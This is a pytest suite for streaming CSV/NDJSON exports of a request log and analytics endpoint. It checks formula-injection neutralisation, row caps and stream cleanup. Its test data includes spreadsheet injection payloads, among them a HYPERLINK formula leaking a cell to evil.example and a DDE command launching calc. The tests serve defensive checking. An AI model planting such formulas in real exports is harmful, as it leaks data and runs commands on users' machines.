"""Streaming CSV/NDJSON exports of the request log and of POST /gateway/analytics, on real
chDB: the CSV round-trips through the csv module to the NDJSON values, hostile text is
quoted and neutralised against formula injection, the row cap is stated, the ClickHouse
stream really is consumed block by block and is released however the download ends."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from analytics.access.models import QueryAudit
from tests.conftest import clickhouse_client, make_row

pytestmark = pytest.mark.django_db(databases=["default", "clickhouse"])

URL = "/gateway/requests"
P1 = uuid.UUID("11111111-1111-4111-8111-111111111111")
T0 = datetime(2025, 1, 15, 12, 0, tzinfo=UTC)
WINDOW = {"start_time": "2025-01-15T00:00:00Z", "end_time": "2025-01-16T00:00:00Z"}
FIELDS = "request_id,timestamp,path,user_agent,client_id,status_code,latitude,cost,is_bot,tags"

# What a spreadsheet would run as a formula, and what would break naive CSV.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
AWKWARD = ["a,b", 'say "hi"', "line\nbreak", "crlf\r\nend", "ünïcødé ☃", "", " =not first"]


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def _export(client: Any, fmt: str, **params: Any) -> Any:
    response = client.get(URL, {**WINDOW, "fields": FIELDS, "format": fmt, **params})
    assert response.status_code == 200, response.content if not response.streaming else ""
    return response


def expected_cell(value: Any) -> str:
    """The documented CSV form of an NDJSON value."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value)
    text = json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    text = text if isinstance(value, dict | list) else value
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture
def hostile_rows(clickhouse):
    rows = []
    for i, text in enumerate(FORMULAS + AWKWARD):
        rows.append(
            make_row(
                project_id=P1,
                timestamp=T0 + timedelta(seconds=i),
                path=text,
                user_agent=text[::-1],
                client_id=f"{text},{i}",
                latitude=-33.5 if i % 2 else 52.25,
                cost=-0.000125 * i,
                is_bot=bool(i % 2),
                tags={"k": text, "=x": "y"} if i % 3 == 0 else {},
            )
        )
    clickhouse(rows)
    return rows


def test_csv_round_trips_to_the_ndjson_values_with_formulas_neutralised(
    superuser_client, hostile_rows
):
    # On embedded chDB a stream holds the engine handle: each body is read before the next.
    csv_response = _export(superuser_client, "csv")
    csv_text = _body(csv_response).decode()
    ndjson_response = _export(superuser_client, "ndjson")
    ndjson_text = _body(ndjson_response).decode()
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert ndjson_response["Content-Type"] == "application/x-ndjson"
    assert csv_response["Content-Disposition"].startswith('attachment; filename="requests-')
    assert csv_response["Content-Disposition"].endswith('.csv"')
    assert ndjson_response["Content-Disposition"].endswith('.ndjson"')

    records = [json.loads(line) for line in ndjson_text.splitlines()]
    table = list(csv.reader(io.StringIO(csv_text, newline="")))
    header, cells = table[0], table[1:]
    assert header == FIELDS.split(",")
    assert len(records) == len(cells) == len(hostile_rows)
    for record, row in zip(records, cells, strict=True):
        assert list(record) == header
        assert row == [expected_cell(record[name]) for name in header]

    paths = {r["path"] for r in records}
    assert paths == {r["path"] for r in hostile_rows}  # NDJSON carries values unchanged
    by_path = {row[header.index("path")] for row in cells}
    for formula in FORMULAS:
        assert "'" + formula in by_path
        assert formula not in by_path
    for text in AWKWARD:  # quoted, not neutralised: commas, quotes, newlines survive
        assert text in by_path
    latitudes = {row[header.index("latitude")] for row in cells}
    assert latitudes == {"-33.5", "52.25"}  # a negative number stays a number


def test_the_row_cap_is_stated_at_the_end_of_the_export(settings, superuser_client, clickhouse):
    clickhouse([make_row(project_id=P1, timestamp=T0 + timedelta(seconds=i)) for i in range(8)])
    settings.MAX_EXPORT_ROWS = 5
    response = _export(superuser_client, "csv")
    assert response["X-Export-Row-Cap"] == "5"
    table = list(csv.reader(io.StringIO(_body(response).decode(), newline="")))
    assert len(table) == 1 + 5 + 1
    assert table[-1][0] == "# truncated"
    assert "MAX_EXPORT_ROWS (5)" in table[-1][1]
    lines = _body(_export(superuser_client, "ndjson")).decode().splitlines()
    assert len(lines) == 6
    assert json.loads(lines[-1])["_truncated"] is True
    # A limit the caller chose cuts without a trailer: it is what was asked.
    lines = _body(_export(superuser_client, "ndjson", limit="3")).decode().splitlines()
    assert len(lines) == 3
    assert "_truncated" not in lines[-1]
    response = superuser_client.get(URL, {**WINDOW, "format": "csv", "limit": "6"})
    assert response.status_code == 400
    assert "MAX_EXPORT_ROWS" in response.json()["error"]["message"] + str(response.json())


def test_the_export_streams_from_clickhouse_and_releases_the_stream(superuser_client, clickhouse):
    rows = [make_row(project_id=P1, timestamp=T0 + timedelta(milliseconds=i)) for i in range(6000)]
    clickhouse(rows)
    handle = clickhouse_client()._backend._handle
    response = _export(superuser_client, "ndjson", fields="request_id")
    assert response.streaming
    chunks = iter(response.streaming_content)
    first = next(chunks)
    # The query is still open while the body is sent: rows come block by block.
    assert handle.stream_owner is not None
    rest = b"".join(chunks)
    assert handle.stream_owner is None
    lines = (first + rest).decode().splitlines()
    assert len(lines) == 6000
    assert len({json.loads(line)["request_id"] for line in lines}) == 6000
    audit = QueryAudit.objects.filter(endpoint="requests").latest("created_at")
    assert audit.rows_returned == 6000
    assert audit.params["format"] == "ndjson"

    # A download abandoned half way closes the query; the next request works.
    response = _export(superuser_client, "csv", fields="request_id")
    next(iter(response.streaming_content))
    response.close()
    assert handle.stream_owner is None
    page = superuser_client.get(URL, {**WINDOW, "limit": "1"})
    assert page.status_code == 200
    assert len(page.json()["data"]["requests"]) == 1


@pytest.mark.parametrize("order", ["newest", "oldest"])
def test_an_export_read_in_time_slices_has_every_row_once_in_order(
    order, monkeypatch, superuser_client, clickhouse
):
    """Exports sort one slice of minutes at a time (bounded engine memory): with tiny
    slices, the rows, their order and the cap are those of the paged request log."""
    from analytics.requests_log import queries

    rows = [
        make_row(project_id=P1, timestamp=T0 + timedelta(seconds=20 * (i // 4)))
        for i in range(90)  # 4 rows per timestamp, 3 timestamps per minute
    ]
    clickhouse(rows)
    monkeypatch.setattr(queries, "SLICE_ROWS", 7)
    lines = _body(_export(superuser_client, "ndjson", order=order, fields="request_id,timestamp"))
    exported = [json.loads(line) for line in lines.decode().splitlines()]
    paged = superuser_client.get(
        URL, {**WINDOW, "order": order, "fields": "request_id,timestamp", "limit": "1000"}
    ).json()["data"]["requests"]
    assert exported == paged
    assert len(exported) == 90
    capped = _body(
        _export(superuser_client, "ndjson", order=order, limit="25", fields="request_id,timestamp")
    )
    assert [json.loads(line) for line in capped.decode().splitlines()] == paged[:25]
    # 30 minutes of 12 rows, at most 7 rows a slice unless one minute holds more.
    stream = queries.stream_rows(
        queries.RequestLogQuery(
            scope=queries.ProjectScope.all_projects(),
            start=T0 - timedelta(hours=1),
            end=T0 + timedelta(hours=1),
            order=order,
        ),
        1000,
    )
    assert stream.total == 90
    assert len(stream.slices) == 8
    stream.close()


def test_an_export_error_is_the_json_envelope(superuser_client, clickhouse):
    response = superuser_client.get(URL, {**WINDOW, "format": "csv", "fields": "nope"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["success"] is False


def test_analytics_exports_one_line_per_point(superuser_client, clickhouse):
    clickhouse(
        [
            make_row(
                project_id=P1,
                timestamp=T0 + timedelta(minutes=20 * i),
                model_name=("=evil" if i % 2 else "gpt"),
                response_time_ms=100 + i,
            )
            for i in range(9)
        ]
    )
    body = {
        **WINDOW,
        "end_time": "2025-01-15T15:00:00Z",
        "start_time": "2025-01-15T12:00:00Z",
        "time_bucket": "1h",
        "metrics": ["total_requests", "avg_response_time"],
        "group_by": ["model_name"],
    }
    answer = superuser_client.post("/gateway/analytics", body, format="json").json()["data"]
    for fmt in ("csv", "ndjson"):
        response = superuser_client.post("/gateway/analytics?format=" + fmt, body, format="json")
        assert response.status_code == 200
        assert response["Content-Disposition"].endswith(f'.{fmt}"')
        text = _body(response).decode()
        if fmt == "csv":
            table = list(csv.reader(io.StringIO(text, newline="")))
            assert table[0] == ["timestamp", "model_name", "total_requests", "avg_response_time"]
            lines = table[1:]
        else:
            lines = [list(json.loads(line).values()) for line in text.splitlines()]
        assert len(lines) == len(answer["time_series"]) == 6
        for point, line in zip(answer["time_series"], lines, strict=True):
            values = [
                point["timestamp"],
                point["groups"]["model_name"],
                point["metrics"]["total_requests"],
                point["metrics"]["avg_response_time"],
            ]
            want = [expected_cell(v) for v in values] if fmt == "csv" else values
            assert line == want
    audit = QueryAudit.objects.filter(endpoint="analytics").latest("created_at")
    assert audit.params["format"] == "ndjson"


def test_exports_mask_ips_when_anonymize_ips_is_on(settings, superuser_client, clickhouse):
    clickhouse([make_row(project_id=P1, timestamp=T0, client_ip="203.0.113.7")])
    plain = _body(_export(superuser_client, "ndjson", fields="client_ip"))
    assert json.loads(plain) == {"client_ip": "203.0.113.7"}
    settings.ANONYMIZE_IPS = True
    masked = _body(_export(superuser_client, "csv", fields="client_ip")).decode()
    assert list(csv.reader(io.StringIO(masked, newline=""))) == [["client_ip"], ["203.0.113.0"]]
